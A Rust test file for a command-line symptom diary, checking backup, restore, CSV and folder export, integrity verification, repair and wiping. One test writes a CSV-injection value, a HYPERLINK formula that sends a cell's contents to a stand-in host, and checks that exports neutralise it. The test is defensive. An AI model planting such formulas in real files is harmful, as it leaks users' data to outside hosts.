//! Backing up, restoring, exporting, verifying, wiping, as a person types it.

use crate::charley::Charley;

fn with_a_diary() -> Charley {
    let charley = Charley::new();
    charley.types("log none").ok();
    charley.types("log cramp calf left --at 03:12").ok();
    charley
}

#[test]
fn a_backup_brings_back_what_was_there() {
    let charley = with_a_diary();
    assert!(charley.types("data backup mine.db").ok().out.contains("2 entries"));
    charley.types("undo").ok();
    charley.types("data restore mine.db --verify").ok();
    charley.types("data restore mine.db").ends(2);
    assert!(charley.types("data restore mine.db --yes").ok().out.contains("What was there before is in"));
    assert_eq!(charley.asks("diary")["entries"].as_array().map(Vec::len), Some(2));
}

#[test]
fn the_same_day_backs_up_to_the_same_place() {
    let charley = with_a_diary();
    charley.types("data backup").ok();
    charley.types("data backup").ok();
    let files = std::fs::read_dir(charley.data().join("backups")).unwrap().count();
    assert_eq!(files, 2, "the backup and its checksum");
}

#[test]
fn an_export_restored_elsewhere_is_the_same_diary() {
    let charley = with_a_diary();
    charley.types("log cramp foot --count 3").ok();
    charley.types("log twinge foot right --count 2").ok();
    charley.types("data export out.zip").ok();
    charley.types("data export out").ok();
    charley.types("data restore out.zip --data there").ok();
    charley.types("data restore out --data yonder").ok();
    let here = charley.types("diary --json").ok().out;
    for folder in ["there", "yonder"] {
        assert_eq!(charley.types(&format!("diary --json --data {folder}")).ok().out, here);
    }
    let refused = charley.types("data restore out.zip").ends(2);
    assert!(refused.err.contains("--yes"), "{}", refused.err);
    charley.types("log none --night 2026-11-01").ok();
    assert!(charley.types("data restore out.zip --yes").ok().out.contains("What was there before is in "));
    assert_eq!(charley.types("diary --json").ok().out, here, "what was there is replaced");
    charley.types("data export out").ends(1);
}

#[test]
fn tables_for_people_have_every_night_and_entry() {
    let charley = with_a_diary();
    charley.types("data export tables --format csv").ok();
    let read = |name: &str| std::fs::read_to_string(charley.home().join("tables").join(name)).unwrap();
    assert!(read("nights.csv").contains("2026-11-22,cramp,1,0"));
    assert_eq!(read("entries.csv").lines().count(), 3);
}

#[test]
fn an_export_that_is_cut_is_refused_and_one_without_a_manifest_is_not_proved() {
    let charley = with_a_diary();
    charley.types("data export out").ok();
    let place = charley.home().join("out");
    let entries = std::fs::read_to_string(place.join("entry.jsonl")).unwrap();
    std::fs::write(place.join("entry.jsonl"), entries.lines().next().unwrap()).unwrap();
    let refused = charley.types("data restore out --data there").ends(1);
    assert!(refused.err.contains("entry.jsonl is cut"), "{}", refused.err);
    assert!(!charley.home().join("there").exists(), "what is refused makes no diary");
    std::fs::write(place.join("entry.jsonl"), entries).unwrap();
    assert!(!charley.types("data restore out --verify").ok().out.contains("cannot be proved"));
    // As the first release wrote it.
    for later in ["manifest.json", "operation.jsonl"] {
        std::fs::remove_file(place.join(later)).unwrap();
    }
    let restored = charley.types("data restore out --data yonder").ok();
    assert!(
        restored.out.contains("no manifest.json") && restored.out.contains("2 entries"),
        "{}",
        restored.out
    );
}

#[test]
fn no_name_becomes_a_formula_in_a_spreadsheet() {
    let charley = with_a_diary();
    let name = "=HYPERLINK(\"http://x/?\"&A2)";
    charley.types_words(&["log", "medicine", name, "--from", "2026-11-01"]).ok();
    charley.types("report --csv report.csv").ok();
    charley.types("data export tables --format csv").ok();
    for file in ["report.csv", "tables/entries.csv"] {
        let text = std::fs::read_to_string(charley.home().join(file)).unwrap();
        assert!(text.contains("HYPERLINK"), "{file}");
        for cell in csv::ReaderBuilder::new().from_reader(text.as_bytes()).records().map(Result::unwrap) {
            assert!(cell.iter().all(|cell| !cell.starts_with('=')), "{file}: {cell:?}");
        }
    }
}

#[test]
fn what_is_no_backup_changes_nothing() {
    let charley = with_a_diary();
    std::fs::write(charley.home().join("x.db"), "no database").unwrap();
    charley.types("data restore x.db --yes").ends(1);
    charley.types("data restore nothing.db --yes").ends(1);
    assert_eq!(charley.asks("diary")["entries"].as_array().map(Vec::len), Some(2));
}

#[test]
fn damage_is_found_and_wiping_asks_first() {
    let charley = with_a_diary();
    assert_eq!(charley.asks("data verify")["wrong"].as_array().map(Vec::len), Some(0));
    charley.types("data wipe").ends(2);
    charley.types("data wipe --yes").ok();
    charley.types("diary").ends(10);
    for verb in ["backup", "verify", "export out", "wipe --yes"] {
        charley.types(&format!("data {verb}")).ends(10);
    }
}

#[test]
fn where_the_diary_is_and_how_old_its_copy_is_said_without_a_verb() {
    let charley = with_a_diary();
    assert!(charley.types("data").ok().out.contains("No copy has been made yet."));
    assert!(charley.types("doctor").ok().out.contains("Backup      none"));
    charley.types("data backup").ok();
    let said = charley.types("data").ok().out.replace('\n', " ");
    assert!(
        said.contains("The last copy is of 23 November:") && said.contains("charley-2026-11-23.db"),
        "{said}"
    );
    assert!(charley.types("doctor").ok().out.contains("Backup      today"));
    let document = charley.asks("data");
    assert_eq!(
        (&document["backups"]["count"], &document["backups"]["newest_day"]),
        (&1.into(), &"2026-11-23".into())
    );
}

#[test]
fn an_import_makes_a_copy_and_one_that_cannot_be_made_is_said_and_remembered() {
    let charley = with_a_diary();
    let gpx = charley.home().join("a.gpx");
    std::fs::write(&gpx, GPX).unwrap();
    charley.types("import a.gpx").ok();
    let copy = charley.data().join("backups/charley-2026-11-23.db");
    let made = charley_store::check_backup(&copy).unwrap();
    assert_eq!((made.entries, made.workouts), (2, 1));
    // Nothing new came in: the copy stays as it is.
    charley.types("import a.gpx").ok();
    assert_eq!(charley_store::check_backup(&copy).unwrap().sha256, made.sha256);
    std::fs::remove_file(&copy).unwrap();
    std::fs::create_dir(&copy).unwrap();
    std::fs::write(&gpx, GPX.replace("47.0", "48.0")).unwrap();
    let said = charley.types("import a.gpx").ok();
    assert!(said.err.contains("no copy of it could be made"), "{}", said.err);
    let doctor = charley.types("doctor").ok().out.replace('\n', " ");
    assert!(
        doctor.contains("no copy of it could be made") && !doctor.contains(charley.home().to_str().unwrap()),
        "{doctor}"
    );
    assert!(charley.types("data").ok().out.replace('\n', " ").contains("The try of 23 November failed"));
}

/// A short way.
const GPX: &str = r#"<gpx version="1.1" creator="test" xmlns="http://www.topografix.com/GPX/1/1"><trk><trkseg>
<trkpt lat="47.0" lon="8.0"><time>2026-11-20T10:00:00Z</time></trkpt>
<trkpt lat="47.001" lon="8.0"><time>2026-11-20T10:01:00Z</time></trkpt>
<trkpt lat="47.002" lon="8.0"><time>2026-11-20T10:02:00Z</time></trkpt>
</trkseg></trk></gpx>"#;

#[test]
fn what_differs_from_the_log_is_named_with_its_remedy_and_repaired() {
    let charley = with_a_diary();
    assert!(charley.types("data repair").ok().out.contains("nothing was changed"));
    let entries = charley.asks("diary")["entries"].clone();
    charley_store::Store::open(&charley.data()).unwrap().disturb_entries_for_test().unwrap();
    let said = charley.types("data verify").ends(1).out.replace('\n', " ");
    assert!(
        said.contains("is not what the log says")
            && said.contains("`charley data repair` writes 2 entries anew"),
        "{said}"
    );
    let said = charley.types("data repair").ok().out;
    assert!(said.contains("2 entries were written anew") && said.contains("before-repair.db"), "{said}");
    assert!(charley.types("data verify").ok().out.contains("All is well."));
    assert_eq!(charley.asks("diary")["entries"], entries);
}
